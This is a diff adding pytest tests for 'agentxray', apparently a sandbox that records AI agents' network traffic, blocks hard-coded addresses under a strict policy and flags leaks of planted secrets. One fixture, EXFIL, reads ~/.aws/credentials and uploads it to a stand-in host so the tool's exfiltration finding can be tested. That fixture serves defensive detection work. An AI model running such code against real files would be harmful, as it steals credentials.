@@ -1,0 +1,156 @@
+"""Contained runs end to end: TLS under real names, certificate refusals, the proxy port, the
+strict policy, and ``agentxray run -- COMMAND`` producing a schema-valid report."""
+
+from __future__ import annotations
+
+import json
+import textwrap
+from pathlib import Path
+
+import jsonschema
+import pytest
+from tests.observe.sandbox.conftest import PYTHON, Runner, needs_sandbox
+
+from agentxray.cli.main import main
+from agentxray.render.json import report_schema
+
+pytestmark = needs_sandbox
+
+MESSAGES = """
+import json, urllib.request
+body = {"model": "claude-x", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}
+req = urllib.request.Request(
+    "https://api.anthropic.com/v1/messages", data=json.dumps(body).encode(), method="POST",
+    headers={"content-type": "application/json", "x-api-key": "k", "anthropic-version": "1"},
+)
+print(json.load(urllib.request.urlopen(req, timeout=10))["content"][0]["text"])
+"""
+
+
+def test_the_model_host_is_served_by_the_mock_under_its_real_name_over_tls(
+    contained: Runner,
+) -> None:
+    run = contained(MESSAGES)
+    assert run.exit_code == 0, run.stderr
+    assert "agentxray mock" in run.stdout
+    (http,) = [e for e in run.events if e.kind == "http"]
+    assert (http.host, http.port, http.status) == ("api.anthropic.com", 443, 200)
+    assert http.url == "https://api.anthropic.com/v1/messages"
+    assert run.exchanges[0].dialect == "anthropic"
+    assert not [e for e in run.events if e.kind in ("violation", "tls-refused")]
+
+
+def test_a_client_that_refuses_our_certificate_is_recorded(contained: Runner) -> None:
+    run = contained(
+        textwrap.dedent(
+            """
+            import socket, ssl
+            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)  # trusts no CA at all: "pinning"
+            raw = socket.create_connection(("statsig.anthropic.com", 443), timeout=5)
+            try:
+                ctx.wrap_socket(raw, server_hostname="statsig.anthropic.com")
+                print("TRUSTED")
+            except ssl.SSLError as exc:
+                print("refused", exc.reason)
+            """
+        )
+    )
+    assert run.stdout.startswith("refused"), run.stdout + run.stderr
+    (refused,) = [e for e in run.events if e.kind == "tls-refused"]
+    assert (refused.host, refused.port) == ("statsig.anthropic.com", 443)
+
+
+def test_the_regular_proxy_port_tunnels_into_the_same_recorder(contained: Runner) -> None:
+    run = contained(
+        textwrap.dedent(
+            """
+            import socket, ssl
+            s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
+            s.sendall(b"CONNECT updates.vendor.example:443 HTTP/1.1\\r\\n\\r\\n")
+            print(s.recv(100).split(b"\\r\\n")[0].decode())
+            t = ssl.create_default_context().wrap_socket(s, server_hostname="updates.vendor.example")
+            t.sendall(b"GET /latest HTTP/1.1\\r\\nHost: updates.vendor.example\\r\\n\\r\\n")
+            print(t.recv(100).split(b"\\r\\n")[0].decode())
+            """
+        )
+    )
+    lines = run.stdout.splitlines()
+    assert lines == ["HTTP/1.1 200 Connection established", "HTTP/1.1 503 "], run.stderr
+    (http,) = [e for e in run.events if e.kind == "http"]
+    assert http.url == "https://updates.vendor.example/latest" and http.status == 503
+
+
+def test_strict_blocks_a_hard_coded_address_and_keeps_the_model_host(contained: Runner) -> None:
+    run = contained(
+        MESSAGES
+        + textwrap.dedent(
+            """
+            import socket
+            s = socket.create_connection(("203.0.113.9", 443), timeout=5)
+            print("closed" if s.recv(10) == b"" else "ANSWERED")
+            """
+        ),
+        policy="strict",
+    )
+    assert run.stdout.splitlines()[-1] == "closed", run.stdout + run.stderr
+    assert "agentxray mock" in run.stdout
+    (violation,) = [e for e in run.events if e.kind == "violation"]
+    assert (violation.host, violation.port, violation.blocked) == ("203.0.113.9", 443, True)
+
+
+EXFIL = """
+import os, urllib.request
+data = open(os.path.expanduser("~/.aws/credentials")).read()
+req = urllib.request.Request("https://collector.example.net/upload", data=data.encode())
+try:
+    urllib.request.urlopen(req, timeout=10)
+except Exception as exc:
+    print("answered", exc)
+"""
+
+
+def _run_json(
+    tmp_path: Path, source: str, capsys: pytest.CaptureFixture[str], *extra: str
+) -> dict[str, object]:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / "prog.py").write_text(source)
+    argv = ["run", "--scenario", "hello", "--workdir", str(tmp_path / "run"), "--workspace"]
+    code = main([*argv, str(ws), "--format", "json", *extra, "--", str(PYTHON), "prog.py"])
+    out = capsys.readouterr().out
+    assert code == 0, out
+    doc: dict[str, object] = json.loads(out)
+    jsonschema.validate(doc, report_schema())
+    return doc
+
+
+def test_run_command_reports_a_planted_secret_sent_out(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    doc = _run_json(tmp_path, EXFIL, capsys)
+    events = doc["events"]
+    assert isinstance(events, list)
+    hits = [e for e in events if e["kind"] == "honeytoken"]
+    assert {(e["host"], e["path"]) for e in hits} == {
+        ("collector.example.net", "~/.aws/credentials")
+    }
+    assert any(e["kind"] == "dns" and e["host"] == "collector.example.net" for e in events)
+    findings = doc["findings"]
+    assert isinstance(findings, list)
+    exfil = [f for f in findings if f["category"] == "exfiltration"]
+    assert exfil and all("~/.aws/credentials" in f["message"] for f in exfil)
+    run = doc["run"]
+    assert isinstance(run, dict) and run["policy"] == "audit" and run["exit_code"] == 0
+
+
+def test_run_command_that_only_talks_to_its_model_has_no_secret_in_egress(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    doc = _run_json(tmp_path, MESSAGES, capsys, "--policy", "strict")
+    events = doc["events"]
+    assert isinstance(events, list)
+    assert not [e for e in events if e["kind"] in ("honeytoken", "violation")]
+    assert [e["host"] for e in events if e["kind"] == "http"] == ["api.anthropic.com"]
+    findings = doc["findings"]
+    assert isinstance(findings, list)
+    assert not [f for f in findings if f["category"] == "exfiltration"]
